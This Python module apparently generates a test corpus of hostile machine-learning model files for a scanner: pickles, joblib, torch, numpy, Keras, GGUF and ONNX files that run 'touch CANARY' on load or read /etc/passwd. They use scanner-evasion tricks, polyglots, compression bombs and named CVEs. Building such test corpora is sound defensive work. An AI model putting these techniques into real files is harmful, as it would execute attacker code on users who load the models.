"""The hostile half of the corpus: one maker for each technique, opcodes by hand where a pickler writes none.

Nothing here is dangerous: what a file would run, if anything loaded it, is `touch CANARY`.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

COMMAND = "touch CANARY"
MAKERS: dict[str, Callable[[], bytes]] = {}
"""By file name. The technique is the first line of the maker's docstring."""


def file(*names: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Under which name, or names, the image has it."""

    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        for name in names:
            assert name not in MAKERS
            MAKERS[name] = make
        return make

    return keep


class Touch:
    """Pickles as a call of os.system."""

    def __reduce__(self) -> Any:
        return os.system, (COMMAND,)


def touching(protocol: int = 4) -> bytes:
    return pickle.dumps([1, {"model": Touch()}], protocol)


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def calling(module: str, name: str, *arguments: bytes) -> bytes:
    """A pickle of protocol 4 that calls module.name."""
    inner = b"".join(arguments)
    return b"\x80\x04" + text(module) + text(name) + b"\x93(" + inner + b"tR."


def zipped(members: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(members: dict[str, bytes], form: int = tarfile.USTAR_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def wrapped(raw: bytes, *, dtype: bytes = b"", state: bytes = b"", make: bytes = b")\x81") -> bytes:
    """As joblib writes an array: the wrapper is built, the array's bytes stand between two opcodes."""
    dtype = dtype or b"cnumpy\ndtype\n" + text("u1") + b"\x89\x88\x87R"
    fields = text("shape") + b"K" + bytes([len(raw)]) + b"\x85" + text("dtype") + dtype
    fields += text("numpy_array_alignment_bytes") + b"N" + state
    return b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n" + make + b"}(" + fields + b"ub" + raw + b"."


# --- one call, by each way that the format has -------------------------------------------------------


@file("reduce.pkl")
def reduce() -> bytes:
    """__reduce__ as a pickler writes it"""
    return touching()


@file("protocol0.pkl", "protocol0.txt")
def protocol0() -> bytes:
    """text opcodes of protocol 0"""
    return b"cos\nsystem\n(S'touch CANARY'\ntR."


@file("protocol1.pkl")
def protocol1() -> bytes:
    """protocol 1 without a header"""
    return touching(1)


@file("protocol5.pkl")
def protocol5() -> bytes:
    """protocol 5 in frames"""
    return touching(5)


@file("inst.pkl", "inst.bin")
def inst() -> bytes:
    """INST calls without REDUCE"""
    return b"(S'touch CANARY'\nios\nsystem\n."


@file("obj.pkl")
def obj() -> bytes:
    """OBJ calls without REDUCE"""
    return b"(cos\nsystem\nS'touch CANARY'\no."


@file("newobj.pkl")
def newobj() -> bytes:
    """NEWOBJ of a class that runs a program"""
    return b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93" + text(COMMAND) + b"\x85\x81."


@file("newobj_ex.pkl")
def newobj_ex() -> bytes:
    """NEWOBJ_EX with keywords"""
    name = b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93"
    return name + b")}" + text("args") + text(COMMAND) + b"s\x92."


@file("build.pkl")
def build() -> bytes:
    """BUILD with a __setstate__ that is put in first"""
    made = b"\x80\x04" + text("types") + text("SimpleNamespace") + b"\x93)R}" + text("__setstate__")
    return made + text("os") + text("system") + b"\x93sb" + text(COMMAND) + b"b."


@file("build_on_class.pkl")
def build_on_class() -> bytes:
    """BUILD on an allowed class itself, which changes it for everybody"""
    named = b"\x80\x04" + text("sklearn.svm._classes") + text("SVC") + b"\x93"
    return named + b"N}" + text("predict") + text("collections") + text("OrderedDict") + b"\x93s\x86b."


@file("extension.pkl")
def extension() -> bytes:
    """a code of copyreg's extension registry"""
    return b"\x80\x02\x82\x01X\x0c\x00\x00\x00touch CANARY\x85R."


@file("persistent.pkl")
def persistent() -> bytes:
    """what a persistent id gives is called"""
    return b"\x80\x04" + text("os.system") + b"Q" + text(COMMAND) + b"\x85R."


@file("import_only.pkl")
def import_only() -> bytes:
    """a module is imported, nothing is called"""
    return b"cantigravity\nfly\n."


# --- names that aren't written out -------------------------------------------------------------------


@file("memo_names.pkl")
def memo_names() -> bytes:
    """module and name swapped through the memo"""
    names = b"\x80\x04" + text("system") + b"\x94" + text("os") + b"\x94h\x01h\x00\x93"
    return names + text(COMMAND) + b"\x85R."


@file("memo_overwritten.pkl")
def memo_overwritten() -> bytes:
    """a memo entry is set twice, so that indices are counted differently"""
    names = (
        b"\x80\x04"
        + text("numpy")
        + b"q\x00"
        + text("os")
        + b"q\x00"
        + text("system")
        + b"\x94h\x00h\x01\x93"
    )
    return names + text(COMMAND) + b"\x85R."


@file("memo_gaps.pkl")
def memo_gaps() -> bytes:
    """memo indices with gaps and far apart"""
    names = (
        b"\x80\x04"
        + text("os")
        + b"r\xff\xff\xff\x7f0"
        + text("system")
        + b"q\x07"
        + b"0j\xff\xff\xff\x7fh\x07\x93"
    )
    return names + text(COMMAND) + b"\x85R."


@file("computed_name.pkl")
def computed_name() -> bytes:
    """STACK_GLOBAL of a text that a call makes"""
    made = b"\x80\x04cbuiltins\nstr\n" + text("os") + b"\x85R"
    return made + text("system") + b"\x93" + text(COMMAND) + b"\x85R."


@file("computed_bytes.pkl")
def computed_bytes() -> bytes:
    """STACK_GLOBAL of a text that is decoded while loading"""
    made = b"\x80\x04c_codecs\nencode\n" + text("bf") + text("rot13") + b"\x86R"
    return made + text("system") + b"\x93" + text(COMMAND) + b"\x85R."


@file("computed_callable.pkl")
def computed_callable() -> bytes:
    """the result of an allowed call is called"""
    made = b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93)R"
    return made + text(COMMAND) + b"\x85R."


@file("dotted_name.pkl")
def dotted_name() -> bytes:
    """an attribute's attribute of a trusted module"""
    return calling("sklearn.utils", "os.system", text(COMMAND))


@file("imported_into_trusted.pkl")
def imported_into_trusted() -> bytes:
    """a class that a trusted module imports from elsewhere"""
    return calling("sklearn.ensemble._forest", "Parallel", b"K\x01")


@file("old_module_name.pkl")
def old_module_name() -> bytes:
    """a name of Python 2 that the unpickler maps to another one"""
    return b"\x80\x02ccommands\ngetoutput\nU\x0ctouch CANARY\x85R."


@file("not_ascii_name.pkl")
def not_ascii_name() -> bytes:
    """a GLOBAL in UTF-8, which pickletools refuses and pickle takes"""
    return "cos\nsystem\n(S'touch CANARY'\ntRcmodèle\nClassé\n.".encode()


@file("lenient_number.txt")
def lenient_number() -> bytes:
    """a number that pickletools refuses and pickle takes"""
    return b"I0x10\n0cos\nsystem\n(S'touch CANARY'\ntR."


@file("mark_popped.txt")
def mark_popped() -> bytes:
    """a mark is popped like a value"""
    return b"(0cos\nsystem\n(S'touch CANARY'\ntR."


# --- gadgets: callables that reach others ------------------------------------------------------------

GADGETS = {
    "eval": ("builtins", "eval", text("__import__('os').system('touch CANARY')")),
    "exec": ("builtins", "exec", text("import os; os.system('touch CANARY')")),
    "getattr": ("builtins", "getattr", text("x") + text("y")),
    "import": ("builtins", "__import__", text("antigravity")),
    "attrgetter": ("operator", "attrgetter", text("system")),
    "methodcaller": ("operator", "methodcaller", text("system") + text(COMMAND)),
    "partial": ("functools", "partial", b"cos\nsystem\n" + text(COMMAND)),
    "numpy_load": ("numpy", "load", text("/tmp/other.npy")),
    "numpy_runstring": ("numpy.testing._private.utils", "runstring", text("pass") + b"}"),
    "numpy_f2py": ("numpy.f2py.crackfortran", "myeval", text("1")),
    "numpy_memmap": ("numpy", "memmap", text("CANARY") + text("u1") + text("w+")),
    "torch_load": ("torch", "load", text("/tmp/other.pt")),
    "torch_hub": ("torch.hub", "load", text("someone/repo") + text("model")),
    "torch_collect_env": ("torch.utils.collect_env", "run", text(COMMAND)),
    "joblib_load": ("joblib", "load", text("/tmp/other.joblib")),
    "pandas_read_pickle": ("pandas", "read_pickle", text("/tmp/other.pkl")),
    "sklearn_fetch": ("sklearn.datasets", "fetch_openml", text("iris")),
    "locate": ("pydoc", "locate", text("os.system")),
    "resolve_name": ("pkgutil", "resolve_name", text("os:system")),
    "runpy": ("runpy", "run_path", text("/tmp/other.py")),
    "bdb": ("bdb", "Bdb.run", text("pass")),
    "cprofile": ("cProfile", "run", text("pass")),
    "timeit": ("timeit", "timeit", text("pass")),
    "pty": ("pty", "spawn", text(COMMAND)),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", text(COMMAND)),
    "mock": ("unittest.mock", "_importer", text("os")),
    "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode", text("pass")),
    "test_support": ("test.support.script_helper", "assert_python_ok", text("-c")),
    "ctypes": ("ctypes", "CDLL", text("/tmp/other.so")),
    "cffi": ("cffi", "FFI", b""),
    "logging_config": ("logging.config", "_resolve", text("os.system")),
    "pip": ("pip._internal.cli.main", "main", text("install")),
    "pickle_loads": ("pickle", "loads", b"C\x01."),
    "marshal": ("marshal", "loads", b"C\x01N"),
    "dill": ("dill._dill", "_create_function", b"N"),
    "cloudpickle": ("cloudpickle.cloudpickle", "_make_function", b"N"),
    "webbrowser": ("webbrowser", "open", text("http://127.0.0.1:9/")),
    "linecache": ("linecache", "getlines", text("/etc/passwd")),
}


def _gadget(name: str) -> Callable[[], bytes]:
    def make() -> bytes:
        module, called, arguments = GADGETS[name]
        return calling(module, called, arguments)

    make.__doc__ = f"gadget {GADGETS[name][0]}.{GADGETS[name][1]}"
    return make


for _name in GADGETS:
    file(f"gadget_{_name}.pkl")(_gadget(_name))


# --- wrong and missing names -------------------------------------------------------------------------


@file(
    "weights.csv",
    "weights.json",
    "weights.safetensors",
    "weights.onnx",
    "weights.h5",
    "weights.gguf",
    "weights",
)
def wrong_extension() -> bytes:
    """a pickle under another format's name"""
    return touching()


@file("call_then_garbage.pkl", "call_then_garbage.bin")
def call_then_garbage() -> bytes:
    """the call comes before the file makes no sense"""
    return touching()[:-1] + b"\xff\xff\xff"


@file("truncated.pkl")
def truncated() -> bytes:
    """cut off behind the call"""
    return touching()[:-3]


@file("truncated_early.pkl")
def truncated_early() -> bytes:
    """an honest pickle that ends too early"""
    return pickle.dumps(list(range(100)))[:-1]


@file("second_pickle.pt")
def second_pickle() -> bytes:
    """the second of several pickles, as torch's legacy format has them"""
    return pickle.dumps(1, 2) + pickle.dumps(Touch(), 2)


@file("second_pickle_protocol0.bin")
def second_pickle_protocol0() -> bytes:
    """the fourth of several pickles, without a header"""
    return pickle.dumps(1, 2) + pickle.dumps(2, 2) + pickle.dumps({}, 2) + protocol0()


# --- pickles in other files --------------------------------------------------------------------------


@file("torch.pt", "torch.bin", "torch.weights")
def torch_zip() -> bytes:
    """torch's zip"""
    return zipped({"archive/data.pkl": touching(2), "archive/data/0": b"\0" * 64}, zipfile.ZIP_STORED)


@file("torch_legacy.pt")
def torch_legacy() -> bytes:
    """torch's legacy format: magic number, protocol, system, module"""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + touching(2) + b"\0" * 16


@file("torch_tar.pt")
def torch_tar() -> bytes:
    """torch's oldest format, a tar"""
    return tarred({"storages": pickle.dumps(0), "pickle": touching(2)})


@file("old_tar.weights")
def old_tar() -> bytes:
    """a tar from before POSIX, without a magic number"""
    packed = bytearray(tarred({"pickle": touching(2)}))
    packed[257:265] = bytes(8)
    packed[148:156] = b" " * 8
    packed[148:156] = b"%06o\0 " % sum(packed[:512])
    return bytes(packed)


@file("wrong_checksum.bin")
def wrong_checksum() -> bytes:
    """a zip member whose checksum is wrong: Python refuses it, torch does not"""
    packed = bytearray(zipped({"m/weights": touching(2)}, zipfile.ZIP_STORED))
    packed[14:18] = b"\0\0\0\0"
    at = packed.find(b"PK\x01\x02")
    packed[at + 16 : at + 20] = b"\0\0\0\0"
    return bytes(packed)


@file("encrypted_flag.bin")
def encrypted_flag() -> bytes:
    """a zip member that says it is encrypted and isn't"""
    packed = bytearray(zipped({"m/weights": touching(2)}))
    packed[6] |= 1
    packed[packed.find(b"PK\x01\x02") + 8] |= 1
    return bytes(packed)


@file("two_names.bin")
def two_names() -> bytes:
    """a zip member with another name in the directory than before its bytes"""
    return zipped({"m/weights": touching(2)}).replace(b"m/weights", b"n/weights", 1)


@file("twice.bin")
def twice() -> bytes:
    """a zip with two members of one name"""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/data.pkl", touching(2))
        archive._didModify = True
        archive.NameToInfo.clear()
        archive.writestr("a/data.pkl", pickle.dumps({}))
    return buffer.getvalue()


@file("nested.zip")
def nested_zip() -> bytes:
    """a zip in a zip"""
    return zipped({"inner.zip": zipped({"x.bin": touching()})})


@file("lzma_member.zip")
def lzma_member() -> bytes:
    """a zip member packed with LZMA"""
    return zipped({"x.bin": touching()}, zipfile.ZIP_LZMA)


@file("model.tar.gz")
def tar_gz() -> bytes:
    """a packed tar"""
    return gzip.compress(tarred({"model/weights": touching()}))


@file("packed.pkl.gz", "packed.data")
def gzipped() -> bytes:
    """gzip"""
    return gzip.compress(touching())


@file("packed.bz2.joblib")
def bz2_joblib() -> bytes:
    """joblib packed with bz2"""
    return bz2.compress(touching())


@file("packed.xz.joblib")
def xz_joblib() -> bytes:
    """joblib packed with xz"""
    return lzma.compress(touching())


@file("packed.lzma.joblib")
def lzma_joblib() -> bytes:
    """joblib packed with lzma, with an unusual dictionary size"""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 12}]
    return lzma.compress(touching(), lzma.FORMAT_ALONE, filters=filters)


@file("packed.lz4.joblib")
def lz4_joblib() -> bytes:
    """joblib packed with lz4, which nothing here can read"""
    return b"\x04\x22\x4d\x18" + bytes(40)


@file("compress3.joblib")
def joblib_compressed() -> bytes:
    """joblib with compress=3: picklescan 1.0.5 and modelscan 0.8.8 pass it"""
    return zlib.compress(touching(), 3)


@file("two_streams.bin")
def two_streams() -> bytes:
    """a pickle that goes on in a second zlib stream"""
    data = touching()
    return zlib.compress(data[:3]) + zlib.compress(data[3:])


@file("raw_array.joblib")
def joblib_raw_array() -> bytes:
    """joblib with an array's bytes between the opcodes: picklescan 1.0.5 and modelscan 0.8.8 pass it"""
    honest = wrapped(b"\x00\xff\x2e\x63" * 4)[:-1]
    return honest + text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R\x86."


@file("in_array_bytes.joblib")
def in_array_bytes() -> bytes:
    """opcodes in an array's bytes, for whoever loads it as a pickle"""
    return wrapped(b"0cos\nsystem\n" + text(COMMAND) + b"\x85R")


@file("array_of_objects.joblib")
def array_of_objects() -> bytes:
    """joblib's array of objects, a pickle within the pickle"""
    dtype = b"cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87R"
    return wrapped(touching(), dtype=dtype)


@file("array_disguised.joblib")
def array_disguised() -> bytes:
    """an array of objects whose dtype says numbers in an unusual way"""
    dtype = b"cnumpy\ndtype\n" + text("i4,O") + b"\x89\x88\x87R"
    return wrapped(touching(), dtype=dtype)


@file("wrapper_rebuilt.joblib")
def wrapper_rebuilt() -> bytes:
    """joblib's wrapper made by way of another class, so that its bytes are taken for opcodes"""
    named = b"\x80\x04ccopyreg\n__newobj__\ncjoblib.numpy_pickle\nNumpyArrayWrapper\n\x85R"
    fields = text("shape") + b"K\x02\x85" + text("dtype") + b"cnumpy\ndtype\n" + text("u1") + b"\x85R"
    hidden = text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R."
    return named + b"}(" + fields + b"ub" + b"N." + hidden


@file("fields_overwritten.joblib")
def fields_overwritten() -> bytes:
    """the array's size is changed behind many other fields"""
    junk = b"".join(text(f"x{number}") + b"N" for number in range(80))
    hidden = text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R0"
    state = junk + text("shape") + b"K\x02\x85"
    return wrapped(b"N." + hidden, state=state)


@file("other_file.joblib")
def other_file() -> bytes:
    """joblib's old format, with an array in a file somewhere else"""
    made = b"\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}X\x08\x00\x00\x00filename"
    return made + b"X\x0e\x00\x00\x00/tmp/other.npysb."


@file("objects.npy")
def npy_objects() -> bytes:
    """numpy's array of objects"""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + touching(3)


@file("objects.npz")
def npz_objects() -> bytes:
    """numpy's array of objects in a zip"""
    return zipped({"arr_0.npy": npy_objects()})


@file("behind_array.npy")
def behind_array() -> bytes:
    """a pickle behind an array of numbers"""
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(4) + touching()


@file("nested_bytes.pkl")
def nested_bytes() -> bytes:
    """a pickle in a pickle's bytes"""
    return pickle.dumps({"weights": touching()}, 4)


@file("nested_protocol2.pkl")
def nested_protocol2() -> bytes:
    """a pickle in bytes as protocol 2 writes them, as text"""
    return pickle.dumps({"weights": touching(2)}, 2)


@file("loads_again.pkl")
def loads_again() -> bytes:
    """torch's own second unpickling, of a zip in the pickle"""
    return b"\x80\x04ctorch.storage\n_load_from_bytes\n" + pickle.dumps(torch_zip(), 4)[11:-2] + b"\x85R."


@file("loads_computed.pkl")
def loads_computed() -> bytes:
    """torch's own second unpickling, of bytes that a call makes"""
    made = b"cbuiltins\nbytes\nC\x04abcd\x85R"
    return b"\x80\x04ctorch.storage\n_load_from_bytes\n" + made + b"\x85R."


# --- polyglots ---------------------------------------------------------------------------------------


@file("pickle_then_zip.pt", "pickle_then_zip.dat")
def pickle_then_zip() -> bytes:
    """an honest zip behind a hostile pickle"""
    return touching() + zipped({"a/data.pkl": pickle.dumps({})})


@file("zip_behind_pickle.bin")
def zip_behind_pickle() -> bytes:
    """a hostile zip behind an honest pickle"""
    return pickle.dumps({}) + zipped({"a/data.pkl": touching(2)})


@file("tar_is_pickle.tar")
def tar_is_pickle() -> bytes:
    """a tar whose first file's name is a pickle"""
    return tarred({"cos\nsystem\n(S'touch CANARY'\ntR.": b"", "readme": b"hello"})


@file("zip_behind_tar.tar")
def zip_behind_tar() -> bytes:
    """a hostile zip behind a tar"""
    return tarred({"readme": b"hello"}) + zipped({"a/data.pkl": touching(2)})


@file("header_is_opcode.gif")
def header_is_opcode() -> bytes:
    """a picture's header that is an opcode for a number"""
    return b"GIF89a\x01\x00\x01" + b"0" + protocol0()


@file("own_header.bin")
def own_header() -> bytes:
    """a pickle behind a header of its own"""
    return b"\xfeMYMODEL\x01\x00\x00\x00" + touching()


@file("behind.safetensors")
def behind_safetensors() -> bytes:
    """a pickle behind safetensors' last tensor"""
    return safetensors({"a": [[0, 4], "F32", [1]]}, bytes(4)) + touching()


# --- formats without pickles -------------------------------------------------------------------------


def safetensors(tensors: dict[str, Any], data: bytes) -> bytes:
    header = {
        name: {"dtype": kind, "shape": shape, "data_offsets": at}
        for name, (at, kind, shape) in tensors.items()
    }
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


@file("overlap.safetensors")
def overlap() -> bytes:
    """tensors that overlap"""
    return safetensors({"a": [[0, 8], "F32", [2]], "b": [[4, 12], "F32", [2]]}, bytes(12))


@file("hole.safetensors")
def hole() -> bytes:
    """bytes that belong to no tensor"""
    return safetensors({"a": [[0, 4], "F32", [1]], "b": [[8, 12], "F32", [1]]}, bytes(12))


@file("outside.safetensors")
def outside() -> bytes:
    """a tensor outside of the file"""
    return safetensors({"a": [[0, 400], "F32", [100]]}, bytes(4))


@file("wrong_size.safetensors")
def wrong_size() -> bytes:
    """a tensor of another size than its shape"""
    return safetensors({"a": [[0, 4], "F32", [1 << 40]]}, bytes(4))


@file("long_header.safetensors")
def long_header() -> bytes:
    """a header longer than the file"""
    return struct.pack("<Q", 1 << 50) + b"{}"


@file("deep_header.safetensors")
def deep_header() -> bytes:
    """a header nested too deep"""
    raw = b'{"a":' * 20000 + b"1" + b"}" * 20000
    return struct.pack("<Q", len(raw)) + raw


def field(number: int, data: bytes) -> bytes:
    """A length-delimited field of a protobuf message."""
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def onnx(place: str) -> bytes:
    entry = field(1, b"location") + field(2, place.encode())
    tensor = b"\x08\x01\x10\x01" + field(8, b"w") + field(13, entry) + b"\x70\x01"
    return b"\x08\x08" + field(2, b"tests") + field(7, field(1, field(4, b"Add")) + field(5, tensor))


@file("up.onnx", "up.bin")
def external_up() -> bytes:
    """ONNX weights in a file above the model's directory"""
    return onnx("../../etc/passwd")


@file("absolute.onnx")
def external_absolute() -> bytes:
    """ONNX weights by an absolute path"""
    return onnx("/etc/passwd")


@file("windows.onnx")
def external_windows() -> bytes:
    """ONNX weights by a path of Windows"""
    return onnx("..\\..\\secrets")


def keras_zip(config: dict[str, Any]) -> bytes:
    return zipped(
        {"metadata.json": b'{"keras_version": "3.3.3"}', "config.json": json.dumps(config).encode()}
    )


def layers(*inner: dict[str, Any]) -> dict[str, Any]:
    config = {"name": "sequential", "layers": list(inner)}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


@file("lambda.keras", "lambda.zip")
def keras_lambda() -> bytes:
    """a Lambda layer with bytecode"""
    code = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}
    return keras_zip(layers({"module": "keras.layers", "class_name": "Lambda", "config": {"function": code}}))


@file("module.keras")
def keras_module() -> bytes:
    """a module that Keras imports, CVE-2025-1550"""
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    return keras_zip(
        layers({"module": "keras.layers", "class_name": "Dense", "config": {"activation": call}})
    )


@file("utils.keras")
def keras_utils() -> bytes:
    """a function of Keras that downloads and unpacks, CVE-2025-8747"""
    return keras_zip(layers({"module": "keras.utils", "class_name": "get_file", "config": {}}))


@file("unsafe.keras")
def keras_unsafe() -> bytes:
    """Keras' own switch to unsafe loading, CVE-2025-9906"""
    return keras_zip(
        layers({"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}})
    )


@file("torch_module.keras")
def keras_torch() -> bytes:
    """a layer that unpickles a PyTorch module"""
    return keras_zip(layers({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}}))


@file("reads_file.keras")
def keras_vocabulary() -> bytes:
    """a vocabulary that is read from a file, CVE-2025-12058"""
    config = {"vocabulary": "/etc/passwd"}
    return keras_zip(layers({"module": "keras.layers", "class_name": "StringLookup", "config": config}))


@file("lambda.h5", "lambda.dat")
def hdf5_lambda() -> bytes:
    """HDF5 with a Lambda layer in its model_config"""
    return hdf5(json.dumps(layers({"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}})))


@file("escaped.h5")
def hdf5_escaped() -> bytes:
    """HDF5 with a Lambda layer whose name is escaped"""
    config = json.dumps(layers({"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}))
    return hdf5(" " * 9 + config.replace("Lambda", "L\\u0061mbda").replace("{", "{\n ", 1))


@file("no_config.h5")
def hdf5_without() -> bytes:
    """HDF5 with a model_config that can't be found"""
    return hdf5("")


def hdf5(config: str) -> bytes:
    """The signature, the attribute's name, and its value as h5py puts it into the global heap."""
    return (
        b"\x89HDF\r\n\x1a\n"
        + bytes(200)
        + b"model_config\0\0\0\0"
        + bytes(64)
        + b"GCOL\1\0\0\0"
        + config.encode()
    )


@file("types.skops")
def skops_types() -> bytes:
    """a skops schema that names a function which runs code"""
    inner = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "x"}
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": [["a", inner]],
    }
    return zipped({"schema.json": json.dumps({**schema, "protocol": 2, "_skops_version": "0.11"}).encode()})


@file("python.pb")
def saved_model() -> bytes:
    """a TensorFlow graph that calls Python and writes files"""
    return field(2, field(2, field(1, field(1, b"w") + field(2, b"WriteFile") + field(3, b"x"))))


@file("template.gguf")
def gguf_template() -> bytes:
    """a chat template in GGUF that reaches into Python, CVE-2024-34359"""
    template = b"{{ ''.__class__.__mro__ }}"
    key = b"tokenizer.chat_template"
    pair = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(template)) + template
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pair


@file("counts.gguf")
def gguf_counts() -> bytes:
    """GGUF with more tensors than the file can hold"""
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 0)


@file("root.tflite")
def tflite_root() -> bytes:
    """TensorFlow Lite whose first table is outside of the file"""
    return struct.pack("<I", 1 << 30) + b"TFL3" + bytes(32)


# --- bombs -------------------------------------------------------------------------------------------


@file("bomb.joblib")
def zlib_bomb() -> bytes:
    """a value of 300 MB in 300 kB"""
    packer = zlib.compressobj(9)
    start = packer.compress(b"\x80\x04B" + struct.pack("<I", 300 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packer.compress(bytes(1 << 20))  # what comes before a full flush depends on nothing earlier
    packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + block * 300 + packer.compress(b".") + packer.flush()


@file("bomb.zip")
def zip_bomb() -> bytes:
    """zips in zips in zips, eight times each"""
    data = zipped({"x.bin": bytes(8 << 20)})
    for _ in range(7):
        data = zipped({f"{number}.zip": data for number in range(8)})
    return data


@file("deep.bin")
def deep_packing() -> bytes:
    """packed more often than anything honest"""
    data = touching()
    for _ in range(12):
        data = gzip.compress(data)
    return data


@file("memory.pkl")
def memory_bomb() -> bytes:
    """many values in the memo, and then a call of two of them"""
    texts = b"".join(b"\x8c\x08%08d\x940" % number for number in range(60_000))
    return b"\x80\x04" + texts + touching()[2:]


@file("stack.pkl")
def stack_bomb() -> bytes:
    """marks within marks, and then a call"""
    return b"\x80\x04" + b"(" * 200_000 + text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R."
